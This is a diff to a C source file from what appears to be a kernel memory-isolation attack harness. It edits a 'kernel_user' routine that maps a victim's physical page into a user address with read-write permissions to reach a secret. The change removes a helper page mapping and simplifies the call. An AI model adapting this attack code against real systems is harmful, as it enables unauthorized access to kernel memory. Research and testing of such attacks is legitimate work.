@@ -10,12 +10,10 @@
 #include "addresses.h"
 #include "attack.h"
 #include "changer.h"
-#include "chunk.h"
 #include "list.h"
 #include "objects.h"
 
 #ifdef __x86_64__
-#define LIKE_PART	0x5b
 #define HOLE		(10UL << 40)
 
 /* Another process, that has done nothing, and looks when it is told to. */
@@ -34,18 +32,15 @@ static pid_t start_other(uint64_t at, int *tell)
 enum outcome kernel_user(void)
 {
 	uint64_t at = vmalloc_base() + HOLE, secret = at + victim_phys() % PAGE_SIZE;
-	volatile char *like;
 	char text[SECRET_SIZE] = "";
 	int tell, status;
 	pid_t pid;
 
 	stay_on_cpu(0);
 	pid = start_other(secret, &tell);
-	like = map_small_pages(LIKE_PART, PAGE_SIZE);
-	if (pid < 0 || !like)
-		return broken("no process or no page");
-	like[0] = 1;
-	if (!map_address(like, at, victim_phys() & -PAGE_SIZE, PTE_USER_RW))
+	if (pid < 0)
+		return broken("no process");
+	if (!map_address(at, victim_phys() & -PAGE_SIZE, PTE_USER_RW))
 		return lost("the address does not lead there");
 	(void)!write(tell, "", 1);
 	waitpid(pid, &status, 0);
